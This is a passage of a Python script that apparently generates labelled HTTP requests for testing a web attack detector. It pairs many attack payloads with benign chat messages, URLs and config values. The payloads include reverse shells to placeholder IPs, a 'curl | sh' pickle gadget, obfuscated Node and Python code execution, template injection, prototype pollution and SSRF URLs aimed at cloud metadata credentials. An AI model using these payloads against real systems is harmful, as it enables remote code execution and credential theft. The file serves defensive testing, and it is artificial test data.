        "(function(){var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var c=new "
        "net.Socket();c.connect(4444,\"198.51.100.3\",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});})();",
        "require('child_process').execFileSync('curl',['http://x.example/p'])",
        "\\u0072equire('child_process').exec('id')",
        "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('id')",
        "global['proc'+'ess']['mainModule']['req'+'uire']('child_'+'process')['ex'+'ecSync']('id')",
        "Reflect.construct(Function,['return process'])()",
        "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp','base64').toString())",
        "eval(atob('cHJvY2Vzcy5tYWluTW9kdWxlLnJlcXVpcmUoJ2NoaWxkX3Byb2Nlc3MnKS5leGVjU3luYygnd2hvYW1pJyk='))",
        "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
        "{\"rce\":\"_$$ND_FUNC$$_function (){require(\\\"child_process\\\").exec(\\\"ls /\\\", function(error, "
        "stdout, stderr) { console.log(stdout) });}()\"}",
        "{\"__js_function\":\"function(){process.mainModule.require('child_process').exec('id')}\"}",
        "';return process.env;//",
        "\");require('child_process').exec('id');//",
        "module.require('child_process').spawnSync('id').stdout.toString()",
    ],
    "node-template": [
        "#{global.process.mainModule.require('child_process').execSync('id')}",
        "<%= process.mainModule.require('child_process').execSync('id') %>",
        "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
        "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "
        "\"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply"
        " 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "{{= it.constructor.constructor('return process')() }}",
        "<%= global.process.mainModule.constructor._load('child_process').execSync('id') %>",
        "${process.mainModule.require('child_process').execSync('id')}",
        "{{constructor.constructor('return process.env')()}}",
    ],
    "pollution": [
        "__proto__[isAdmin]=true",
        "__proto__.admin=1",
        "constructor[prototype][admin]=1",
        "constructor.prototype.isAdmin=true",
        "{\"__proto__\":{\"isAdmin\":true}}",
        "{\"constructor\":{\"prototype\":{\"polluted\":\"yes\"}}}",
        "__pro__proto__to__[role]=admin",
        "[\"__proto__\"][\"toString\"]",
        "a[__proto__][b]=c",
        "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"x\":1}}",
        "__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').execSync('id');var "
        "__tmp2",
        "__proto__[shell]=/proc/self/exe&__proto__[argv0]=console.log(require(\"child_process\").execSync(\"id\")."
        "toString())//&__proto__[NODE_OPTIONS]=--require /proc/self/cmdline",
        "{\"__proto__\":{\"env\":{\"NODE_OPTIONS\":\"--inspect=198.51.100.2:9229\"}}}",
        "__proto__[sourceURL]=\\u000areturn process.mainModule.require('child_process').execSync('id')//",
        "{\"__proto__\":{\"block\":{\"type\":\"Text\",\"line\":\"process.mainModule.require('child_process')"
        ".execSync('id')\"}}}",
        "{\"__proto__\":{\"json spaces\":\" \"}}",
        "{\"__proto__\":{\"status\":510}}",
        "{\"__proto__\":{\"exposedHeaders\":[\"foo\"]}}",
        "$.__proto__.polluted",
        "%5F%5Fproto%5F%5F[x]=1",
        "constructor%5Bprototype%5D%5Bx%5D=1",
        "Object.prototype.isAdmin = true",
        "{\"a\":{\"__proto__\":{\"allowedTags\":[\"script\"]}}}",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/",
        "http://169.254.170.2/v2/credentials/",
        "http://192.0.0.192/latest/",
        "http://metadata.tencentyun.com/latest/meta-data/",
        "http://127.0.0.1:2375/containers/json",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
        "dict://127.0.0.1:11211/stats",
        "http://0.0.0.0:8080/actuator/env",
        "http://0/",
        "http://127.1/admin",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://017700000001/",
        "http://0x7f.0x0.0x0.0x1/",
        "http://[::1]:22/",
        "http://[::ffff:127.0.0.1]/",
        "http://[0:0:0:0:0:ffff:7f00:1]/",
        "http://169.254.169.254.nip.io/latest/meta-data/",
        "http://user@127.0.0.1:80@evil.example/",
        "http://evil.example#@127.0.0.1/",
        "http://172.16.0.10:8500/v1/agent/self",
        "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
        "https://127.0.0.1:10250/pods",
        "http://localhost:2379/v2/keys/?recursive=true",
        "http://127.0.0.1:9200/_cat/indices",
        "http://127.0.0.1:5984/_all_dbs",
        "file://localhost/c:/windows/win.ini",
        "ldap://127.0.0.1:389/",
        "tftp://198.51.100.9/x",
        "jar:http://x.example/a.jar!/",
        "netdoc:///etc/passwd",
        "http://metadata/computeMetadata/v1/?recursive=true",
        "http://169.254.169.254/openstack/latest/meta_data.json",
        "http://[fe80::1%25eth0]/",
        "http://7f000001.c0a80001.rbndr.us/",
        "//169.254.169.254/latest/meta-data",
        "http://425.510.425.510/",
        "http://2852039166/latest/meta-data/",
        "http://0xa9fea9fe/latest/user-data",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    ],
    "ruby": [
        "#{`id`}",
        "#{system('id')}",
        "<%= `id` %>",
        "<%= system(\"cat /etc/passwd\") %>",
        "<%= File.open('/etc/passwd').read %>",
        "<%= IO.popen('id').readlines() %>",
        "Kernel.exec('id')",
        "%x(id)",
        "%x{whoami}",
        "open('| ls -la')",
        "instance_eval(\"system('id')\")",
        "Object.class_eval { def x; `id`; end }",
        "send(:system, 'id')",
        "Object.send(:eval, 'exit!')",
        "Marshal.load(Base64.decode64(params[:data]))",
        "BAhvOhVHZW06OlJlcXVpcmVtZW50BjoQQHJlcXVpcmVtZW50c286GEdlbTo6RGVwZW5kZW5jeUxpc3QHOgtAc3BlY3NbBm86HkdlbTo6U291"
        "cmNlOjpTcGVjaWZpY0ZpbGU=",
        "--- !ruby/object:Gem::Installer\ni: x",
        "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? foo\n: !ruby/struct\n  defaults:"
        " {}",
        "Object.const_get('Kernel').system('id')",
        "ERB.new(\"<%= `id` %>\").result",
        "method(:system).call('id')",
        "IO.popen(['sh','-c','id']).read",
        "__send__(:instance_variable_get, :@secret)",
        "render inline: \"<%= `id` %>\"",
    ],
    "python": [
        "__import__('os').system('id')",
        "eval(\"__import__('os').popen('id').read()\")",
        "exec(\"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("
        "'198.51.100.4',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])\")",
        "().__class__.__bases__[0].__subclasses__()",
        "''.__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['popen']('id').read()",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read() }}",
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')("
        "'\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
        "|attr('popen')('id')|attr('read')()}}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c.__init__."
        "__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}{% endif %}{% endfor %}",
        "<% import os; os.system('id') %>",
        "${self.module.cache.util.os.system(\"id\")}",
        "{% import os %}{{ os.popen('id').read() }}",
        "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
        "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
        "cos\nsystem\n(S'curl http://x.example|sh'\ntR.",
        "c__builtin__\neval\n(Vprint(open('/etc/passwd').read())\ntR.",
        "!!python/object/apply:os.system [\"id\"]",
        "!!python/object/new:subprocess.check_output [[\"id\"]]",
        "!!python/name:os.system",
        "!!python/object/apply:subprocess.Popen [[\"nc\",\"198.51.100.4\",\"4444\",\"-e\",\"/bin/sh\"]]",
        "!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , [\"__import__('os')"
        ".system('id')\"]]]",
        "getattr(__import__('os'),'system')('id')",
        "__builtins__.__dict__['__import__']('os').system('id')",
        "compile('import os;os.system(\"id\")','x','exec')",
        "importlib.import_module('os').system('id')",
        "eval(bytes.fromhex('5f5f696d706f72745f5f28276f7327292e73797374656d282769642729').decode())",
        "exec(__import__('base64').b64decode('X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk='))",
        "[x for x in ().__class__.__base__.__subclasses__() if x.__name__ == 'Popen'][0]('id',shell=True)",
        "{user.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}",
    ],
    "template-probe": [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{7*'7'}}",
        "${{7*7}}",
        "@(7*7)",
        "{{config.items()}}",
        "*{7*7}",
        "{{ self }}{{ ''.__class__ }}",
    ],
}

FAMILIES: dict[str, dict[str, list[str]]] = {"php": PHP, "java": JAVA, "generic": GENERIC}

# Prototype pollution in keys (query-string keys and JSON keys), as the parsers that merge them see it.
POLLUTION_QUERIES = [
    "__proto__[isAdmin]=true",
    "__proto__.role=admin",
    "constructor[prototype][isAdmin]=1",
    "constructor.prototype.verified=true",
    "filter[__proto__][admin]=1",
    "%5F%5Fproto%5F%5F%5Badmin%5D=1",
    "__proto__%5Bpolluted%5D=yes",
    "a[constructor][prototype][b]=c",
]
POLLUTION_JSON: list[Any] = [
    {"__proto__": {"isAdmin": True}},
    {"name": "Ann", "__proto__": {"role": "admin"}},
    {"constructor": {"prototype": {"isAdmin": True}}},
    {"settings": {"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process')"
                                                     ".execSync('id');x"}}},
    {"profile": {"constructor": {"prototype": {"shell": "/proc/self/exe",
                                               "NODE_OPTIONS": "--require /proc/self/environ"}}}},
    {"__proto__": {"__proto__": {"polluted": 1}}},
]


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for family, subs in FAMILIES.items():
        i = 0
        for sub, payloads in subs.items():
            for p in payloads:
                for place, name in three_places(i, PARAMS):
                    n += 1
                    yield {**_place(place, name, p), "id": f"b15-{family}-{n:04d}", "category": family,
                           "sub": sub, "placement": place, "payload": p}
                i += 1
    for i, qs in enumerate(POLLUTION_QUERIES):
        for k, path in enumerate(("/api/users?", "/api/users?page=2&")):
            yield {**_get(path + qs), "id": f"b15-generic-pq{i}-{k}", "category": "generic",
                   "sub": "pollution-key", "placement": "query", "payload": qs}
    for i, doc in enumerate(POLLUTION_JSON):
        for k, uri in enumerate(("/api/users", "/api/users/42")):
            yield {**_json(uri, doc), "id": f"b15-generic-pj{i}-{k}", "category": "generic",
                   "sub": "pollution-key", "placement": "json", "payload": json.dumps(doc)}


# --------------------------------------------------------------------------------------------------------------
# Benign
# --------------------------------------------------------------------------------------------------------------
SLACK_TEXTS = [
    "deploy failed: java.lang.NullPointerException at com.acme.billing.InvoiceService.total(InvoiceService.java:88)",
    "anyone know why `Runtime.getRuntime().availableProcessors()` returns 2 in the container? cpu limit is 4",
    "PHP Fatal error:  Uncaught Error: Call to undefined function mb_strlen() in /var/www/app/src/Helpers.php:42 "
    "- forgot the mbstring extension on the new image",
    "heads up: we're upgrading log4j-core to 2.17.1 across all services this sprint, see SEC-1412",
    "the ProcessBuilder approach works but remember redirectErrorStream(true) or it hangs when stderr fills up",
    "TIL array_map with a null callback zips arrays in PHP",
    "Traceback (most recent call last):\n  File \"/app/worker.py\", line 57, in run\n    data = pickle.loads(blob)\n"
    "_pickle.UnpicklingError: invalid load key, '\\x00'.",
    "why is no-eval set to error in the eslint config? because we don't want eval, that's why 😄",
    "node: child_process.spawn fails with ENOENT when the binary isn't on PATH, use the absolute path",
    "yaml.safe_load everywhere please, bandit flagged yaml.load in scripts/import_customers.py",
    "Spring Boot actuator: only /actuator/health and /actuator/info are exposed in prod, the rest is behind the VPN",
    "composer update bumped guzzlehttp/guzzle to 7.8 and the FnStream change broke our mocks",
    "Reminder: the old Struts app on legacy-crm gets decommissioned on Friday 🎉",
    "Laravel queue worker died: Illuminate\\Queue\\MaxAttemptsExceededException: App\\Jobs\\SendInvoice has been "
    "attempted too many times or run too long",
    "does anyone have the Freemarker template for the invoice email? ${customer.name} renders blank for me",
    "in Jinja you can write {{ user.name }} or {{ user['name'] }}, both work",
    "Exception in thread \"main\" java.lang.ClassNotFoundException: org.postgresql.Driver\n\tat java.base/jdk."
    "internal.loader.BuiltinClassLoader.loadClass(BuiltinClassLoader.java:641)",
    "our pods can no longer reach the instance metadata endpoint after the network policy change, which is intended",
    "rubocop prefers public_send over send, I'll fix the warnings in the billing gem",
    "dependabot opened PRs for the lodash prototype pollution advisory, please merge the ones for your services",
    "Python 3.12 removed distutils so our setup.py needs updating before the base image bump",
    "Jackson default typing is off in all our services, I checked every ObjectMapper bean",
    "the @type field in our webhook payload is just \"invoice.paid\", nothing to do with fastjson 😅",
    "Error: Cannot find module 'express'\nRequire stack:\n- /srv/app/server.js\n    at Module._resolveFilename "
    "(node:internal/modules/cjs/loader:1077:15)",
    "PHP Warning:  include(partials/header.php): Failed to open stream: No such file or directory in "
    "/var/www/html/index.php on line 3",
    "Caused by: org.springframework.beans.factory.BeanCreationException: Error creating bean with name "
    "'dataSource' defined in class path resource [application.yml]",
    "ERB: in Rails <%= %> escapes output and <%== %> doesn't, so please don't use the double one for user input",
    "could someone review my PR that replaces os.system() with subprocess.run([...], check=True)?",
    "at Object.<anonymous> (/home/dev/proj/index.js:12:9)\n    at Module._compile "
    "(node:internal/modules/cjs/loader:1256:14)",
    "who owns the ELK cluster? Kibana shows java.lang.OutOfMemoryError: Java heap space on node-3 again",
    "reflection is slowish in Java but MethodHandles are fine after warm-up, measured with JMH",
    "we use Groovy only in the Jenkinsfiles, not in the app itself",
    "standup notes: Maria - finishing the SpEL-based pricing rules; Tom - Thymeleaf email templates; me - on call",
    "the unserialize() call in the legacy cart code is gone, it's json_decode now 🙌",
    "psalm flagged a call_user_func with a user-controlled string in ReportController, fixed in #4411",
    "PHP 8.1 deprecation: passing null to parameter #1 ($string) of type string is deprecated in Str.php:77",
    "Can we stop using create_function? It was removed in PHP 8 and the plugin still calls it",
    "TypeError: Cannot read properties of undefined (reading 'map')\n    at OrderList (OrderList.jsx:31:22)",
    "Is the JNDI datasource name java:comp/env/jdbc/OrdersDB or just jdbc/OrdersDB in Tomcat's context.xml?",
    "FYI the nashorn engine is gone since Java 15, the report scripts need GraalJS now",
    "org.hibernate.LazyInitializationException: could not initialize proxy [com.acme.Order#42] - no Session",
    "Marshal.load on cache entries only reads what we wrote ourselves, but let's move it to JSON anyway",
    "python -c \"import sys; print(sys.version)\" says 3.11.6 on the build agent",
    "the Velocity templates in the mailer use $user.firstName, rename it to $user.givenName after the migration",
    "new rule: no string eval in the pricing engine, use the expression parser with the whitelist of functions",
    "Process Street checklist for the release is updated, please tick your items before 4pm",
    "meeting with Runtime Verification Inc. about the smart contract audit moved to Thursday",
    "Constructor GmbH sent the signed contract, I've put it in the legal folder",
    "how do I get the class name of an object in PHP? get_class($obj) or $obj::class since PHP 8",
    "spring.jpa.open-in-view=false is now the default in our starter, you'll see a warning otherwise",
    "log line from prod: 2024-06-11 10:32:17.412 WARN 1 --- [nio-8080-exec-7] o.s.web.servlet.PageNotFound : No "
    "mapping for GET /favicon.ico",
    "[2024-06-11T10:33:02.118Z] ERROR worker-3: UnhandledPromiseRejection: connect ECONNREFUSED 127.0.0.1:5432",
    "the Ruby YAML.safe_load call needs permitted_classes: [Date, Symbol] for the fixtures to load",
    "I wrote a tiny wrapper around ProcessBuilder for the PDF converter, it has a 30s timeout now",
    "JSF pages still use #{bean.property} and the new ones use Thymeleaf with th:text=\"${order.total}\"",
    "vm2 is deprecated, we're switching the formula sandbox to isolated-vm",
    "the prototype of our new onboarding flow is in Figma, link in the channel topic",
    "OGNL showed up in the dependency report only because of an old Struts plugin, removing it",
    "can someone explain why `$this->container->get('router')` returns null in the console command?",
    "java.lang.IllegalStateException: Failed to load ApplicationContext\n\tat org.springframework.test.context."
    "cache.DefaultCacheAwareContextLoaderDelegate.loadContext(DefaultCacheAwareContextLoaderDelegate.java:132)",
    "File \"/usr/lib/python3.11/json/decoder.py\", line 355, in raw_decode\n    raise JSONDecodeError(\"Expecting "
    "value\", s, err.value) from None",
    "ruby: NoMethodError (undefined method `each' for nil:NilClass) in app/views/orders/index.html.erb:14",
    "the system() call in the backup script is fine, it's a cron job with a fixed command line",
    "Symfony Process component is much nicer than proc_open for the thumbnail job",
    "our Helm chart sets JAVA_TOOL_OPTIONS=-XX:MaxRAMPercentage=75 for every JVM service",
    "Node 20 has a built-in test runner: node --test, no need for mocha in the small packages",
    "Django says TemplateSyntaxError: Invalid block tag on line 12: 'endblock', expected 'endif'",
    "the template engine comparison doc is up: Twig vs Blade vs Plates, tl;dr we keep Twig",
    "Please don't paste AWS keys in here, rotate the one from yesterday 🙏",
    "GraalVM native image build fails on reflection config for the Jackson modules, adding reflect-config.json",
    "anyone going to PHP UK or Devoxx this year?",
    "Hi team, I'm Priya, joining as a backend engineer, mostly Java and Kotlin, some Python",
    "the search page shows 'No results for constructor' when searching the docs, bug filed",
    "Kotlin coroutines + Spring WebFlux: remember to use awaitSingle(), not block()",
    "PHPUnit 10 dropped @expectedException annotations, use $this->expectException()",
    "npm audit says 3 high severity issues, all in dev dependencies of the storybook",
    "the __toString() method of Money returns the formatted amount, don't use it for persistence",
    "serialVersionUID mismatch after the refactor: java.io.InvalidClassException: com.acme.Cart; local class "
    "incompatible",
    "python's ast.literal_eval is what you want for parsing those config tuples, not eval",
    "I'll demo the new Kafka consumer after lunch, it uses the Spring Cloud Stream functional style",
    "gunicorn workers timing out: [CRITICAL] WORKER TIMEOUT (pid:1123), increasing to 60s",
    "Redis on the staging box is at redis-staging.internal:6379, ask ops for the password",
    "Sidekiq job failed: ActiveRecord::RecordNotFound: Couldn't find User with 'id'=42",
    "Bio: full-stack dev, PHP since 5.2, now mostly TypeScript and Go. Likes bikes and bread.",
    "Bio: Java champion wannabe. Spring, Quarkus, Kafka. Opinions on logging frameworks available on request.",
    "Bio: Pythonista, data pipelines, Airflow and too many Jupyter notebooks",
    "Bio: Ruby on Rails since 2.3, organiser of the local Ruby meetup",
    "Bio: security engineer, I review your deserialization code so you don't have to",
    "the reflection-based mapper in core is replaced by MapStruct in 3.0, see the migration guide",
    "Tip: Function.prototype.bind returns a new function, so removeEventListener needs the same reference",
    "`php artisan config:cache` after changing .env, otherwise the old values stick",
    "Sorry, the staging deploy is blocked until the ProcessBuilder fix is merged",
]

PUBLIC_URLS = [
    "https://www.php.net/manual/en/function.eval.php",
    "https://www.php.net/manual/en/function.call-user-func.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/language.oop5.magic.php",
    "https://www.php.net/manual/en/function.preg-replace-callback.php",
    "https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/Runtime.html",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://docs.spring.io/spring-boot/docs/current/reference/html/actuator.html",
    "https://struts.apache.org/security/",
    "https://commons.apache.org/proper/commons-jexl/",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Object/proto",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval",
    "https://docs.python.org/3/library/pickle.html",
    "https://docs.python.org/3/library/functions.html#eval",
    "https://docs.python.org/3/library/subprocess.html",
    "https://pyyaml.org/wiki/PyYAMLDocumentation",
    "https://docs.ruby-lang.org/en/master/Marshal.html",
    "https://guides.rubyonrails.org/security.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/querying-metadata",
    "https://github.com/FasterXML/jackson-docs/wiki/JacksonPolymorphicDeserialization",
    "https://jinja.palletsprojects.com/en/3.1.x/sandbox/",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://www.process.st/templates/",
    "https://runtimeverification.com/",
    "https://packagist.org/packages/symfony/process",
    "https://www.npmjs.com/package/serialize-javascript",
    "https://pypi.org/project/RestrictedPython/",
]

PROSE = [
    "how to call a function by name in php",
    "php eval alternative for math expressions",
    "java ProcessBuilder vs Runtime exec",
    "Constructor GmbH",
    "Process Street",
    "Runtime Verification Inc.",
    "spring boot actuator endpoints security",
    "log4j 2.17 upgrade guide",
    "node child_process exec timeout",
    "python pickle vs json performance",
    "ruby send vs public_send",
    "prototype pollution lodash merge fix",
    "Object Computing, Inc.",
    "System76 laptop order",
    "Shell Energy invoice March",
    "Payload CMS migration",
    "Reflection Studio Berlin",
    "Include Health onboarding",
    "Template Monster refund",
    "Spring Health benefits",
    "Velocity Global contractor agreement",
    "Groovy Bakery Ltd catering",
    "Function of Beauty",
    "The Eval Group",
    "Class Technologies Inc.",
    "Marshal Tucker",
    "invoice from Struts & Co Carpentry",
    "Jinja Ventures newsletter",
    "Pickle & Co. deli order",
    "Expression Engine license renewal",
    "unserialize error offset 42 of 180 bytes",
    "Call to undefined method App\\Models\\User::roles()",
    "java.lang.NoSuchMethodError: 'void org.slf4j.Logger.info(java.lang.String)'",
    "TypeError: object of type 'NoneType' has no len()",
    "ReferenceError: require is not defined in ES module scope",
    "undefined method `[]' for nil:NilClass",
    "how do I reset my password",
    "export customers to csv",
    "Jonas O'Brien",
    "Ann-Kathrin Müller",
    "orders where status = shipped and total > 100",
    "template for the weekly report",
    "eval board meeting notes",
    "system requirements for the desktop app",
    "assert library for unit tests",
    "include VAT in the price",
    "user with role admin created last week",
    "callback url for the payment provider",
    "redirect after login not working",
    "filter by date range",
    "config for the staging environment",
    "process payroll for June",
    "runtime of the nightly job",
    "class schedule for the Java course",
    "object storage bucket for backups",
    "exec summary Q2",
    "shell company due diligence checklist",
    "the system is down again?",
    "Can I include my partner on the plan?",
    "please evaluate the new vendor proposal by Friday",
    "Our constructor partner is late with the invoice",
    "The process for refunds is described in the wiki",
    "Java 21 virtual threads talk by Ron",
    "PHP 8.3 readonly classes",
    "Spring Cloud Function AWS adapter",
    "Struts 1 end of life",
    "OGNL expression language documentation",
    "MVEL expression examples",
    "JEXL script sandboxing",
    "Freemarker date format",
    "Velocity template loop over list",
    "Groovy closures tutorial",
    "Jackson polymorphic types with @JsonTypeInfo",
    "fastjson vs gson",
    "XStream security framework allowTypes",
    "SnakeYAML 2.0 SafeConstructor",
    "Twig filters and functions",
    "Smarty 4 upgrade",
    "Blade components in Laravel 10",
    "EJS include partials",
    "Pug mixins",
    "Handlebars helpers registration",
    "Nunjucks macros",
    "ERB trim mode",
    "Jinja2 autoescape",
    "Mako templates inheritance",
    "Python yaml safe_load example",
    "ruby Marshal dump to file",
    "node vm module is not a security mechanism",
    "SSRF protection for webhooks allow list",
    "instance metadata IMDSv2 hop limit",
]

COMPANY_NAMES = [
    "Constructor GmbH", "Process Street", "Runtime Verification Inc.", "Object Computing, Inc.", "System76",
    "Shell Energy Retail Ltd", "Reflection Studio UG", "Include Health", "Payload CMS Inc.", "Template Monster",
    "Spring Health", "Velocity Global", "Groovy Bakery Ltd", "Expression Engine Partners", "Eval & Sons",
    "Class Technologies Inc.", "Marshal Logistics BV", "Pickle Juice Co.", "Struts & Co Carpentry", "Lookup Media",
]

CONFIG_VALUES = [
    ("LOG4J_FORMAT_MSG_NO_LOOKUPS", "true"),
    ("SPRING_PROFILES_ACTIVE", "prod,metrics"),
    ("JAVA_OPTS", "-Xms512m -Xmx2g -XX:+UseG1GC -Dfile.encoding=UTF-8"),
    ("PHP_MEMORY_LIMIT", "512M"),
    ("NODE_OPTIONS", "--max-old-space-size=4096"),
    ("disable_functions", "exec,passthru,shell_exec,system,proc_open,popen"),
    ("allow_url_include", "Off"),
    ("management.endpoints.web.exposure.include", "health,info,prometheus"),
    ("PYTHONPATH", "/srv/app/src"),
    ("RAILS_ENV", "production"),
    ("spring.datasource.url", "jdbc:postgresql://db.internal:5432/orders"),
    ("logging.level.org.springframework.web", "DEBUG"),
    ("log4j2.configurationFile", "classpath:log4j2-prod.xml"),
    ("opcache.validate_timestamps", "0"),
    ("session.serialize_handler", "php_serialize"),
    ("NODE_ENV", "production"),
    ("GUNICORN_CMD_ARGS", "--workers 4 --timeout 60"),
    ("RUBYOPT", "-W0"),
    ("JAVA_TOOL_OPTIONS", "-XX:MaxRAMPercentage=75"),
    ("spring.cloud.function.definition", "uppercase|reverse"),
    ("server.error.include-stacktrace", "never"),
    ("jackson.deserialization.fail-on-unknown-properties", "false"),
    ("php_value upload_max_filesize", "64M"),
    ("template.cache.dir", "/var/cache/twig"),
    ("freemarker.template_update_delay", "0"),
    ("velocity.resource.loader", "class"),
    ("struts.devMode", "false"),
    ("celery.task_serializer", "json"),
    ("yaml.loader", "SafeLoader"),
    ("ALLOWED_WEBHOOK_HOSTS", "hooks.slack.com,api.github.com"),
    ("prototype", "v2-onboarding"),
    ("eval_period_days", "30"),
    ("callback_url", "https://shop.example.com/payments/callback"),
    ("metadata_timeout_ms", "2000"),
    ("process_pool_size", "8"),
    ("runtime", "python3.11"),
    ("runtime", "java17"),
    ("runtime", "nodejs20.x"),
    ("system_prompt_language", "en-GB"),
    ("include_archived", "false"),
]

SEARCH_QUERIES = [
    "php call_user_func example",
    "java Runtime exec output stream",
    "log4j lookups disable",
    "spring expression language tutorial",
    "node vm runInNewContext timeout",
    "python eval safe alternative",
    "ruby instance_eval vs class_eval",
    "what is prototype pollution",
    "constructor injection spring",
    "process street pricing",
    "runtime verification careers",
    "jinja2 template inheritance",
    "freemarker if else",
    "velocity foreach",
    "ognl expression basics",
    "thymeleaf th:each",
    "jackson ignore unknown properties",
    "php unserialize allowed_classes",
    "pickle protocol version",
    "yaml anchors and aliases",
    "child process spawn vs exec",
    "ruby Open3 capture3 example",
    "groovy string interpolation",
    "java reflection get private field",
    "php magic methods __get __set",
    "data uri image base64",
    "ssrf prevention cheat sheet",
    "aws metadata service v2",
    "template literal javascript",
    "erb syntax cheat sheet",
    "nashorn replacement graaljs",
    "class loader hierarchy java",
    "shell script best practices",
    "exec summary template",
    "system design interview",
    "assert statement python",
    "include guard c++",
    "eval metrics machine learning",
    "object storage pricing",
    "function calling openai",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, "b15ben")
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, "b15ben", n)
    for name in COMPANY_NAMES:
        n += 1
        yield {**_json("/api/users", {"name": "Ann", "company": name}), "id": f"b15ben-name-{n:04d}",
               "category": "benign", "placement": "json"}
        n += 1
        yield {**_get(_query("/api/users", [("company", name), ("page", "1")])), "id": f"b15ben-name-{n:04d}",
               "category": "benign", "placement": "query"}
    for key, value in CONFIG_VALUES:
        n += 1
        yield {**_json("/api/settings", {"key": key, "value": value}), "id": f"b15ben-config-{n:04d}",
               "category": "benign", "placement": "json"}
    n = yield from numbered((_get(_query("/api/search", [("q", q), ("page", "1")])) for q in SEARCH_QUERIES),
                            "b15ben-search", n, "query")


if __name__ == "__main__":
    print_records(attacks(), benign())
